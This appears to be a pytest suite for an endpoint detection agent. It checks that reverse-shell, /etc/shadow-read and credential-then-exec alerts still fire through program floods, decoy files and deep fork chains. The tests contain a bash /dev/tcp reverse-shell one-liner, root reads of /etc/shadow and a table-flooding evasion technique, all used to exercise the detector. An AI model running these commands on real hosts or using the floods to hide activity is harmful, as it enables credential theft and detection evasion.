"""One act among many: floods of programs, decoys and forks hide nothing that a rule names."""

from __future__ import annotations

import os
import signal
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.kernel.endpoint import Endpoint, Line, endpoint
from tests.kernel.workload import ADDRESS, NOBODY, Island, copy_as

READ = "T1003 [Sensitive file read]"
CREDENTIALS = "CHAIN Credential access then execution"
REVERSE_SHELL = "CHAIN Reverse shell behaviour"
CUT = "T1562 [Detection state cut]"
SESSION = ("/usr/sbin/runuser", "-u", "root", "--")
"""Put before a command, which then begins a lineage of its own."""
DECOYS = 150
PROCESSES = 1024
"""Processes that the agent of the floods remembers."""

TINY = r"""
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc > 1 && !strcmp(argv[1], "stay")) pause();
  return 0;
}
"""
FLOOD = r"""
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
/* flood PROGRAM COUNT [stay]: as many executions; those that stay end with this process group. */
int main(int argc, char **argv) {
  char *words[] = {argv[1], argc > 3 ? "stay" : 0, 0};
  for (int i = 0; i < atoi(argv[2]); i++) {
    pid_t child = vfork();
    if (!child) { execv(argv[1], words); _exit(127); }
    if (argc == 3) waitpid(child, 0, 0);
  }
  write(1, "done\n", 5);
  if (argc > 3) pause();
  return 0;
}
"""


@pytest.fixture(scope="module")
def small() -> Iterator[Endpoint]:
    """An agent that remembers few processes, so that a flood need not be long."""
    few = str(PROCESSES)
    with endpoint(
        LAVENDER_FILTERS__MAX_PROCESSES=few, LAVENDER_AGENT__OPEN_REPEAT_SECS="0"
    ) as running:
        yield running
        assert running.stop() == 0


@contextmanager
def flooded(build: Callable[[str], Path], folder: Path, *words: str, user: int) -> Iterator[None]:
    """Tiny programs called bash were started; those that stay are there inside."""
    folder.mkdir(mode=0o755)
    bash = copy_as(build(TINY), folder, "bash")
    flood = copy_as(build(FLOOD), folder, "flood")
    running = subprocess.Popen(
        [flood, bash, *words], user=user, start_new_session=True, stdout=subprocess.PIPE
    )
    assert running.stdout is not None
    try:
        assert running.stdout.readline() == b"done\n"
        yield
    finally:
        os.killpg(running.pid, signal.SIGKILL)
        running.wait()
        running.stdout.close()


@contextmanager
def half_a_reverse_shell(net: Island, *, port: int) -> Iterator[subprocess.Popen[bytes]]:
    """A bash that has connected out, and in the end starts a sh; each to a port of its own."""
    script = f"exec 3<>/dev/tcp/{ADDRESS}/{port}; echo on; read; exec sh -c 'echo off'"
    with subprocess.Popen(
        [*net.enter, "/bin/bash", "-c", script],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    ) as shell:
        assert shell.stdout is not None
        assert shell.stdout.readline() == b"on\n"
        yield shell
        assert shell.stdin is not None
        shell.stdin.write(b"\n")
        shell.stdin.flush()
        assert shell.stdout.readline() == b"off\n"


@pytest.mark.parametrize("user", [NOBODY, 0], ids=["another user", "the same user"])
def test_a_flood_of_programs_between_its_steps_does_not_end_a_sequence(
    small: Endpoint,
    build: Callable[[str], Path],
    programs: Path,
    net: Island,
    user: int,
) -> None:
    folder = programs / f"ended-{user}"
    with half_a_reverse_shell(net, port=90 + bool(user)) as shell:
        with flooded(build, folder, str(4 * PROCESSES), user=user):
            pass
        pid = shell.pid
    small.alert(REVERSE_SHELL, pid)


def test_what_is_cut_is_told_with_whose_programs_filled_the_table(
    small: Endpoint, build: Callable[[str], Path], programs: Path, net: Island
) -> None:
    words = (str(2 * PROCESSES), "stay")
    with (
        half_a_reverse_shell(net, port=92) as shell,
        flooded(build, programs / "staying", *words, user=NOBODY),
    ):
        pid = shell.pid
    small.alert(REVERSE_SHELL, pid)
    told = small.alert(CUT)
    assert told["level"] == "high"
    assert f"user {NOBODY}" in told["detail"]
    assert "bash" in told["detail"]


def test_a_decoy_in_the_same_process_does_not_take_the_place_of_the_hosts_own_file(
    small: Endpoint, tmp_path: Path
) -> None:
    decoy = made(tmp_path / "etc" / "shadow")
    subprocess.run(
        [*SESSION, "/usr/bin/cat", decoy, "/etc/shadow"], capture_output=True, check=True
    )
    (first,) = told(small, decoy)
    detail = "/usr/bin/cat opened /etc/shadow for reading"
    assert small.alert(READ, first["pid"], detail=detail)["count"] > first["count"]


def test_many_decoys_in_one_lineage_do_not_take_the_place_of_the_hosts_own_file(
    small: Endpoint, tmp_path: Path
) -> None:
    for number in range(DECOYS):
        made(tmp_path / str(number) / "etc" / "shadow")
    reads = f"for n in $(seq 0 {DECOYS - 1}); do cat {tmp_path}/$n/etc/shadow; done"
    script = f"{reads}; cat /etc/shadow; true"
    subprocess.run([*SESSION, "/bin/sh", "-c", script], check=True, capture_output=True)
    small.wait_for(lambda: [a for a in told(small, "/etc/shadow") if a["count"] == DECOYS + 1])
    decoys = [a for a in small.alerts_about(rule=READ) if f"{tmp_path}/" in a["detail"]]
    assert 16 <= len(decoys) <= 24, "decoys are told, and not each of them"


@pytest.mark.parametrize("forks", [15, 16, 40, 200])
def test_no_number_of_forks_ends_a_sequence(
    small: Endpoint, tmp_path: Path, doer: Path, secret: Path, forks: int
) -> None:
    thief = copy_as(doer, tmp_path, f"deep{forks}")
    words = ["open", str(secret), *["fork"] * forks, "exec", "/usr/bin/true"]
    subprocess.run([*SESSION, thief, *words], check=True)
    small.wait_for(
        lambda: [
            alert
            for alert in small.alerts_about(rule=CREDENTIALS)
            if f"=>deep{forks}=>true" in alert["ancestry"] and str(secret) in alert["detail"]
        ]
    )


def made(path: Path) -> Path:
    path.parent.mkdir(parents=True)
    path.write_text("no secret")
    return path


def told(small: Endpoint, path: Path | str) -> list[Line]:
    """Alerts that name a file as the one that was read; waits for one."""
    sentence = f" opened {path} for reading"
    return small.wait_for(
        lambda: [a for a in small.alerts_about(rule=READ) if sentence in a["detail"]]
    )
